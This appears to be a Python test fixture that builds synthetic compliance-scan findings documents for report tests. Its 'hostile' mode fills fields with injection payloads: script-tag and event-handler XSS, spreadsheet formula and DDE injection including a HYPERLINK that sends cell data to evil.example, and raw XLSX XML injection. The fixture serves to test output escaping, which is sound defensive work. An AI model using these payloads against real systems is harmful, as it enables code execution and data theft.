"""Findings documents (docs/findings.md) built directly, so report tests need no engine.

``make_doc(n)`` gives a realistic scan result with ``n`` findings spread over a
handful of policies, waivers in every state, a baseline diff, manual controls and
provenance with one failed source. ``hostile=True`` puts injection payloads into
every free-text field a source system or a policy author controls.
"""

from __future__ import annotations

import hashlib
import itertools
from typing import Any

SEVERITIES = ("critical", "high", "medium", "low", "info")

# Each payload sets window.__pwned if it ever runs in a browser.
HOSTILE = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    "javascript:window.__pwned=3",
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '+cmd|" /C calc"!A0',
    "-1+2",
    "invoice\u202eexe.pdf",
    "ctl\x00\x01\x07\x1b\x7f\x9f-end",
    "\tTAB",
    "\rCR",
    '"><svg onload="window.__pwned=4">',
    "</script><script>window.__pwned=5</script>",
    # xlsxwriter copies text shaped like its own rich-string XML into the sheet raw.
    '<r><t>a</t></r></is></c><c r="Z1"><f>HYPERLINK("http://evil.example","x")</f></c>'
    '<c r="Z2" t="inlineStr"><is><r><t>b</t></r>',
)
RICH_XML = HOSTILE[-1]

POLICIES: tuple[dict[str, Any], ...] = (
    {"id": "ACC-001", "kind": "revoke_on_departure", "severity": "critical",
     "title": {"en": "Departed staff keep no enabled account", "zh": "离职人员账号须当日停用"},
     "code": "enabled_after_departure", "control": "CTL-ACCESS"},
    {"id": "ACC-002", "kind": "role_template", "severity": "high",
     "title": {"en": "Roles follow the position template", "zh": "角色符合岗位模板"},
     "code": "role_outside_template", "control": "CTL-ACCESS"},
    {"id": "SOD-001", "kind": "segregation_of_duties", "severity": "high",
     "title": {"en": "Cashier does not also audit", "zh": "出纳不得兼任稽核"},
     "code": "incompatible_duties", "control": "CTL-SOD"},
    {"id": "CHG-001", "kind": "change_approval", "severity": "medium",
     "title": {"en": "Permission changes are approved first", "zh": "权限变更须事先审批"},
     "code": "not_approved", "control": "CTL-CHANGE"},
    {"id": "ACC-005", "kind": "dormant_account", "severity": "low",
     "title": {"en": "No dormant accounts", "zh": "无长期未使用账号"},
     "code": "dormant", "control": "CTL-ACCESS"},
    {"id": "ARC-001", "kind": "retention_period", "severity": "info",
     "title": {"en": "Archives kept for their retention period", "zh": "会计档案按期限保管"},
     "code": "due_for_appraisal", "control": "CTL-ARCHIVE"},
    {"id": "BAK-001", "kind": "backup_frequency", "severity": "high",
     "title": {"en": "Daily backups with an offsite copy", "zh": "每日备份并异地存放"},
     "code": "stale_backup", "control": "CTL-BACKUP", "status": "error",
     "error": "table backups comes from source backup-catalog, whose collection failed"},
    {"id": "TBL-001", "kind": "table_rule", "severity": "medium",
     "title": {"en": "Custom rule (disabled data)", "zh": "自定义规则"},
     "code": "row", "control": "CTL-ARCHIVE", "status": "skipped"},
)


def _fid(*parts: str) -> str:
    return hashlib.sha256("\x1f".join(parts).encode()).hexdigest()[:16]


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def make_finding(i: int, policy: dict[str, Any], hostile: bool = False) -> dict[str, Any]:
    subject = f"account:finance:user{i:07d}"
    message = f"Account user{i:07d} is enabled {i % 40 + 1} days after departure"
    evidence: dict[str, Any] = {"departure_date": "2026-10-31", "enabled": True,
                                "last_login_at": f"2026-11-{i % 20 + 1:02d}T09:00:00+08:00"}
    if hostile:
        payload = HOSTILE[i % len(HOSTILE)]
        subject = f"account:finance:{payload}"
        message = f"{payload} — display name {HOSTILE[(i + 3) % len(HOSTILE)]}"
        evidence = {"display_name": payload, payload: HOSTILE[(i + 1) % len(HOSTILE)]}
    status = "waived" if i % 50 == 7 else "open"
    return {
        "id": _fid(policy["id"], subject, policy["code"], str(i)),
        "policy_id": policy["id"],
        "kind": policy["kind"],
        "code": policy["code"],
        "severity": policy["severity"],
        "subject": subject,
        "person_id": HOSTILE[i % len(HOSTILE)] if hostile else f"P{i % 9000:04d}",
        "message": message,
        "evidence": evidence,
        "status": status,
        "waiver": (
            {"policy": policy["id"], "subject": subject, "expires": "2026-12-31",
             "reason": "migration window" if not hostile else HOSTILE[i % len(HOSTILE)],
             "approved_by": "P0003"}
            if status == "waived" else None
        ),
        "baseline": ("new", "existing", "existing", "waiver_expired")[i % 4],
        "key": None,
        "location": None,
    }


def make_doc(n: int, hostile: bool = False, command: str = "scan") -> dict[str, Any]:
    """A findings document with ``n`` findings over the evaluable policies."""
    evaluable = [p for p in POLICIES if p.get("status") not in ("error", "skipped")]
    # Spread findings unevenly (most on the first policies), leaving the last one passing.
    chosen = evaluable[:-1]
    weights = itertools.cycle([0, 0, 0, 1, 1, 2, 3, 4])
    findings = [make_finding(i, chosen[next(weights)], hostile) for i in range(n)]
    text = HOSTILE[0] + " " + HOSTILE[3] if hostile else ""
    counts = {p["id"]: 0 for p in POLICIES}
    for f in findings:
        counts[f["policy_id"]] += 1
    policies = []
    for line, p in enumerate(POLICIES, 1):
        status = p.get("status") or ("fail" if counts[p["id"]] else "pass")
        title = dict(p["title"])
        if hostile:
            title = {"en": f"{title['en']} {HOSTILE[1]}", "zh": f"{title['zh']} {HOSTILE[0]}"}
        policies.append({
            "id": p["id"], "kind": p["kind"], "severity": p["severity"], "status": status,
            "findings": counts[p["id"]], "error": p.get("error"),
            "title": title,
            "description": f"Checks that {p['title']['en'].lower()}. {text}".strip(),
            "references": ["会计基础工作规范 第十二条", f"https://example.org/ref {text}".strip()],
            "remediation": f"Fix it in the source system. {text}".strip(),
            "pack": "cn-finance-baseline" if not hostile else f"cn-finance {HOSTILE[7]}",
            "file": "policies/cn_finance/access.yaml", "line": line * 12,
            "controls": [p["control"]],
        })
    controls = [
        {"id": c, "title": {"en": f"Control {c}", "zh": f"控制点 {c}"},
         "source": "会计档案管理办法 第十四条", "manual": False, "procedure": None,
         "status": "fail" if any(counts[p["id"]] for p in POLICIES if p["control"] == c) else "pass",
         "policies": [p["id"] for p in POLICIES if p["control"] == c]}
        for c in sorted({p["control"] for p in POLICIES})
    ]
    controls.append({
        "id": "CTL-SIGN", "title": {"en": "Destruction register is signed", "zh": "销毁清册已签字"},
        "source": "会计档案管理办法 第十七条", "policies": [], "manual": True, "status": "manual",
        "procedure": "Inspect the signed 销毁清册 for each destroyed archive. " + text,
    })
    sev_counts = {s: 0 for s in SEVERITIES}
    for f in findings:
        if f["status"] != "waived":
            sev_counts[f["severity"]] += 1
    statuses = [p["status"] for p in policies]
    waiver_text = HOSTILE[2] if hostile else "accepted until the migration ends"
    doc = {
        "format": "ledgerguard-findings/1",
        "tool": {"name": "ledgerguard", "version": "0.1.0"},
        "scan": {
            "command": command, "as_of": "2026-11-23", "timezone": "Asia/Shanghai",
            "started_at": "2026-11-23T10:00:00+08:00", "finished_at": "2026-11-23T10:00:02+08:00",
            "fail_on": "high",
            "snapshot": {
                "path": "/srv/ledgerguard/snapshots/2026-11-23", "sha256": _sha("snapshot"),
                "taken_at": "2026-11-23T02:00:00+08:00",
                "tables": {t: _sha(t) for t in ("accounts", "grants", "identities", "archives")},
                "sources": [
                    {"name": "corp-ad", "kind": "ldap", "status": "ok",
                     "collected_at": "2026-11-23T02:00:00+08:00", "error": None,
                     "tables": ["accounts", "grants"]},
                    {"name": "backup-catalog" if not hostile else HOSTILE[0], "kind": "backup_catalog",
                     "status": "error", "collected_at": "2026-11-23T02:00:05+08:00",
                     "error": "restic: repository not found" + (" " + HOSTILE[1] if hostile else ""),
                     "tables": ["backups"]},
                ],
            },
            "policy_packs": [{"name": "cn-finance-baseline", "version": "1.0.0",
                              "sha256": _sha("pack"), "path": "policies/cn_finance"}],
        },
        "summary": {
            "policies": len(policies), "passed": statuses.count("pass"),
            "failed": statuses.count("fail"), "errored": statuses.count("error"),
            "skipped": statuses.count("skipped"), "findings": sev_counts,
            "waived": sum(f["status"] == "waived" for f in findings),
            "failing": bool(sev_counts["critical"] or sev_counts["high"]),
        },
        "policies": policies,
        "controls": controls,
        "findings": findings,
        "waivers": [
            {"policy": "ACC-001", "subject": "account:finance:user*", "expires": "2026-12-31",
             "status": "active", "matched": sum(f["status"] == "waived" for f in findings),
             "reason": waiver_text, "approved_by": "P0003"},
            {"policy": "ACC-002", "subject": "account:erp:wangwu", "expires": "2026-11-01",
             "status": "expired", "matched": 1, "reason": waiver_text, "approved_by": "P0003"},
            {"policy": "SOD-001", "subject": "person:P9999", "expires": "2027-03-31",
             "status": "stale", "matched": 0, "reason": waiver_text, "approved_by": "P0004"},
        ],
        "resolved": [
            dict(make_finding(10_000_000 + i, POLICIES[1], hostile), baseline="resolved")
            for i in range(3)
        ],
    }
    if command == "gate":
        doc["scan"]["change_file"] = "changes.yaml"
        for i, f in enumerate(doc["findings"]):
            f["location"] = {"file": "changes.yaml", "line": 2 + i % 5, "column": 5}
    return doc
